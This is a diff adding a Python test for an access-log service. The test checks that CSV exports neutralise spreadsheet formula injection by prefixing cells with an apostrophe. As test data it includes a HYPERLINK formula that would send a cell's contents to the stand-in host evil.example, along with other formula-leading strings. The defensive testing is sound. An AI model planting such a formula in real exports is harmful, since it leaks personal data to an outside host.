@@ -194,3 +194,20 @@ async def test_the_access_log_is_exported_per_citizen_to_team_leaders(stack: Sta
     assert parent.replace("-", "") not in exported.text
     unknown = {"cpr": invented_cpr(), "reason": "x", "format": "json"}
     assert (await stack.client.post("/citizens/access-log", json=unknown, headers=tl)).json() == []
+
+
+async def test_an_exported_cell_a_spreadsheet_would_run_is_written_as_text(stack: Stack) -> None:
+    # Given a look at the persons whose stated reason is a spreadsheet formula
+    cw, tl = await stack.token("cw-6", "caseworker"), await stack.token("tl-6", "team_leader")
+    parent = invented_cpr()
+    case_id = await open_for(stack, cw, invented_cpr(), parent)
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    for reason in (formula, "+1+1", "-2", "@SUM(1)"):
+        await stack.client.post(f"/cases/{case_id}/reveal", json={"reason": reason}, headers=cw)
+    # When a team leader exports the parent's access log as CSV
+    body = {"cpr": parent, "reason": "Request for insight", "format": "csv"}
+    exported = await stack.client.post("/citizens/access-log", json=body, headers=tl)
+    # Then no cell starts as a formula: each is text with a leading apostrophe
+    reasons = [r["reason"] for r in csv.DictReader(io.StringIO(exported.text))]
+    assert f"'{formula}" in reasons
+    assert not [r for r in reasons if r[:1] in ("=", "+", "-", "@")]
